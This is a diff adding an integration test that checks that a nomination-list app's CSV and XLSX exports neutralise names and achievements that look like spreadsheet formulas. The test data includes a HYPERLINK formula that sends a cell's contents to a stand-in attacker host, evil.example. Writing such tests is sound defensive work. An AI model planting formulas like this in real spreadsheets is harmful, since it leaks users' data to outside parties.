@@ -9,6 +9,7 @@ import {
   rollUp,
   xlsxRows,
 } from '../support/exemplary-world';
+import { entriesOf } from '../support/zip-file';
 import { createTestApp, TestApp } from '../support/test-app';
 import { buildWorld, World, WorldUser } from '../support/world';
 
@@ -432,6 +433,56 @@ describe('nomination lists (SPEC §8)', () => {
       expect(text).toContain('Độc lập - Tự do - Hạnh phúc');
       expect(text).toContain('Lê Văn An');
       expect(text).toContain('Bùi Thị Linh');
+    });
+
+    it('exports names and achievements that look like formulas as text, in CSV and XLSX', async () => {
+      const formulaName = '=HYPERLINK("http://evil.example/?"&B3,"Xem")';
+      // (A leading tab or CR is trimmed away on input; the writer's unit test covers them.)
+      const achievements = ['+1 sáng kiến', '-2 phản ánh', '@SUM(A1:A9)', '=1+1'];
+      const rename = (fullName: string) =>
+        t
+          .http()
+          .patch(`/api/people/${x.people.em}`)
+          .set('Authorization', w.tokens.admin)
+          .send({ fullName })
+          .expect(200);
+      await rename(formulaName);
+      const entries: string[] = [];
+      try {
+        const list = await newList('nominatorA', { title: '=1+1 danh sách', period: '2025-H1' });
+        const subjects = [x.people.em, x.people.an, x.people.dung, x.people.khanh];
+        for (const [index, achievement] of achievements.entries()) {
+          const added = await as('nominatorA')
+            .post(`/api/nominations/${list.id}/entries`)
+            .send(entry(subjects[index], { achievement, overrideReason: 'Thử công thức' }))
+            .expect(201);
+          entries.push(`/api/nominations/${list.id}/entries/${added.body.id}`);
+        }
+        const csv = csvRecords(
+          (await download(t, `/api/nominations/${list.id}/export?format=csv`, w.tokens.admin))
+            .body as Buffer,
+        );
+        expect(csv[1][1]).toBe(`'${formulaName}`);
+        expect(csv.slice(1).map((record) => record[7])).toEqual(
+          achievements.map((text) => `'${text}`),
+        );
+        // Numbers stay numbers: only text cells are neutralised.
+        expect(csv.slice(1).map((record) => record[0])).toEqual(['1', '2', '3', '4']);
+
+        const xlsx = (
+          await download(t, `/api/nominations/${list.id}/export?format=xlsx`, w.tokens.admin)
+        ).body as Buffer;
+        const rows = await xlsxRows(xlsx);
+        const header = rows.findIndex((r) => r[0] === 'STT');
+        expect(rows[header + 1][1]).toBe(formulaName);
+        expect(rows.slice(header + 1).map((r) => r[7])).toEqual(achievements);
+        const sheet = (await entriesOf(xlsx)).find((e) => e.name === 'xl/worksheets/sheet1.xml');
+        expect(sheet!.data.toString()).not.toContain('<f>');
+      } finally {
+        // Leave the people free for the lists of 2025-H1 below.
+        for (const path of entries) await as('nominatorA').delete(path).expect(200);
+        await rename('Vũ Văn Em');
+      }
     });
 
     it('refuses an unknown format (400) and another agency (403)', async () => {
